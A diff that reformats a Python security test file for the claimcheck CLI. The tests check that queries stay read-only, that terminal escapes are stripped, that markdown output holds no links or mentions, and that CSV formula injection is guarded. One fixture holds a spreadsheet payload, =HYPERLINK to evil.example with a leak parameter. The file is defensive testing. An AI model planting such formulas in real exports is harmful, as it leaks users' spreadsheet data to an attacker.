@@ -1,4 +1,5 @@
 """Security: `query` only reads claimcheck databases; article text cannot drive the terminal or a spreadsheet."""
+
 import hashlib
 import json
 import os
@@ -31,7 +32,10 @@ def ingested(claimcheck, tmp_path):
 
 # --- item 7: query is read-only at the file level ---------------------------------------------------------------------
 
-def test_query_refuses_a_sqlite_file_that_is_not_claimcheck_and_leaves_it_untouched(claimcheck, tmp_path):
+
+def test_query_refuses_a_sqlite_file_that_is_not_claimcheck_and_leaves_it_untouched(
+    claimcheck, tmp_path
+):
     other = tmp_path / "other.db"
     conn = sqlite3.connect(other)
     conn.execute("create table notes (body text)")
@@ -48,9 +52,16 @@ def test_query_refuses_a_sqlite_file_that_is_not_claimcheck_and_leaves_it_untouc
 def test_query_never_writes_the_database_file(ingested):
     db = Path(ingested.db)
     before = digest(db)
-    for sql in ["pragma journal_mode=delete", "pragma user_version=7", "pragma query_only=0",
-                "vacuum into 'copy.db'", f"attach database 'file:{db.parent / 'new.db'}?mode=rwc' as n",
-                "delete from claims", "create table t (x)", "insert into sources (name) values ('x')"]:
+    for sql in [
+        "pragma journal_mode=delete",
+        "pragma user_version=7",
+        "pragma query_only=0",
+        "vacuum into 'copy.db'",
+        f"attach database 'file:{db.parent / 'new.db'}?mode=rwc' as n",
+        "delete from claims",
+        "create table t (x)",
+        "insert into sources (name) values ('x')",
+    ]:
         result = ingested("query", sql)
         one_error_line(result, "read-only")
     assert digest(db) == before
@@ -60,7 +71,9 @@ def test_query_never_writes_the_database_file(ingested):
 
 def test_query_does_not_migrate_an_older_database(ingested):
     conn = sqlite3.connect(ingested.db)
-    conn.execute("delete from _migrations where name = (select max(name) from _migrations)")
+    conn.execute(
+        "delete from _migrations where name = (select max(name) from _migrations)"
+    )
     conn.commit()
     conn.close()
     before = digest(Path(ingested.db))
@@ -78,8 +91,13 @@ def test_query_timeout_stops_a_long_statement(ingested):
 
 def test_ctrl_c_interrupts_a_running_query(ingested):
     env = {**os.environ, "CLAIMCHECK_DB": ingested.db}
-    process = subprocess.Popen([sys.executable, "-m", "claimcheck", "query", FOREVER, "--timeout", "300"],
-                               env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    process = subprocess.Popen(
+        [sys.executable, "-m", "claimcheck", "query", FOREVER, "--timeout", "300"],
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     time.sleep(3)
     assert process.poll() is None
     sent = time.monotonic()
@@ -90,13 +108,21 @@ def test_ctrl_c_interrupts_a_running_query(ingested):
 
 
 def test_query_rows_stream_in_every_format(ingested):
-    sql = ("with recursive s(n) as (select 1 union all select n + 1 from s where n < 2500) "
-           "select n, 'x' || n as label, null as empty from s")
+    sql = (
+        "with recursive s(n) as (select 1 union all select n + 1 from s where n < 2500) "
+        "select n, 'x' || n as label, null as empty from s"
+    )
     as_json = json.loads(ingested("query", sql, "--json").output)
     assert len(as_json) == 2500 and as_json[0] == {"n": 1, "label": "x1", "empty": None}
-    assert [json.loads(line) for line in ingested("query", sql, "--nl").output.splitlines()] == as_json
+    assert [
+        json.loads(line) for line in ingested("query", sql, "--nl").output.splitlines()
+    ] == as_json
     lines = ingested("query", sql, "--csv").output.splitlines()
-    assert lines[0] == "n,label,empty" and len(lines) == 2501 and lines[-1] == "2500,x2500,"
+    assert (
+        lines[0] == "n,label,empty"
+        and len(lines) == 2501
+        and lines[-1] == "2500,x2500,"
+    )
     table = ingested("query", sql).output.splitlines()
     assert table[0].split() == ["n", "label", "empty"] and len(table) == 2502
     assert ingested("query", "select 1 as a where 0", "--csv").output == "a\n"
@@ -136,15 +162,32 @@ def assert_no_controls(text: str):
 
 
 def test_terminal_escapes_never_reach_the_output(hostile, tmp_path):
-    stored = "".join(row["text"] for row in json.loads(hostile("claims", "--json").output))
-    assert "\\u009b" in hostile("claims", "--json").output or "\x1b" not in stored   # escaped in JSON
-    for args in (["check", "--no-nli"], ["check", "--no-nli", "--format", "markdown"],
-                 ["check", "--no-nli", "--format", "github"], ["claims"], ["findings"], ["claims", "--csv"],
-                 ["claims", "--json"], ["findings", "--nl"], ["check", "--no-nli", "--format", "json"],
-                 ["check", "--no-nli", "--format", "sarif"], ["check", "--no-nli", "--format", "junit"]):
+    stored = "".join(
+        row["text"] for row in json.loads(hostile("claims", "--json").output)
+    )
+    assert (
+        "\\u009b" in hostile("claims", "--json").output or "\x1b" not in stored
+    )  # escaped in JSON
+    for args in (
+        ["check", "--no-nli"],
+        ["check", "--no-nli", "--format", "markdown"],
+        ["check", "--no-nli", "--format", "github"],
+        ["claims"],
+        ["findings"],
+        ["claims", "--csv"],
+        ["claims", "--json"],
+        ["findings", "--nl"],
+        ["check", "--no-nli", "--format", "json"],
+        ["check", "--no-nli", "--format", "sarif"],
+        ["check", "--no-nli", "--format", "junit"],
+    ):
         result = hostile(*args)
         assert result.exit_code in (0, 1), result.output
-        assert "61 percent" in result.output or "Turnout" in result.output or args[0] == "findings"
+        assert (
+            "61 percent" in result.output
+            or "Turnout" in result.output
+            or args[0] == "findings"
+        )
         assert_no_controls(result.output)
     for fmt in ("text", "markdown", "json"):
         report = tmp_path / f"report.{fmt}"
@@ -154,10 +197,12 @@ def test_terminal_escapes_never_reach_the_output(hostile, tmp_path):
 
 def test_markdown_report_makes_no_links_images_or_mentions_from_article_text(hostile):
     report = hostile("check", "--no-nli", "--format", "markdown").output
-    rows = [line for line in report.splitlines() if "Turnout" in line or "minister" in line]
+    rows = [
+        line for line in report.splitlines() if "Turnout" in line or "minister" in line
+    ]
     assert rows
     for row in rows:
-        assert "](" not in row.replace("\\](", "")     # no [text](url) or ![alt](url)
+        assert "](" not in row.replace("\\](", "")  # no [text](url) or ![alt](url)
         assert "@octocat" not in row
     assert "\\[the office\\]\\(http" in report and "@\u2060octocat" in report
 
@@ -167,8 +212,19 @@ def test_csv_cells_that_spreadsheets_would_run_are_guarded_unless_asked(hostile)
     import io
 
     rows = list(csv.DictReader(io.StringIO(hostile("sources", "--csv").output)))
-    assert {row["source"] for row in rows} == {"Capital Wire", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1)"}
-    raw = list(csv.DictReader(io.StringIO(hostile("sources", "--csv", "--csv-raw").output)))
-    assert "=HYPERLINK(\"http://evil.example/?leak=\"&A1)" in {row["source"] for row in raw}
-    numbers = list(csv.DictReader(io.StringIO(hostile("query", "select -5 as n, '-x' as t", "--csv").output)))
+    assert {row["source"] for row in rows} == {
+        "Capital Wire",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1)',
+    }
+    raw = list(
+        csv.DictReader(io.StringIO(hostile("sources", "--csv", "--csv-raw").output))
+    )
+    assert '=HYPERLINK("http://evil.example/?leak="&A1)' in {
+        row["source"] for row in raw
+    }
+    numbers = list(
+        csv.DictReader(
+            io.StringIO(hostile("query", "select -5 as n, '-x' as t", "--csv").output)
+        )
+    )
     assert numbers == [{"n": "-5", "t": "'-x"}]
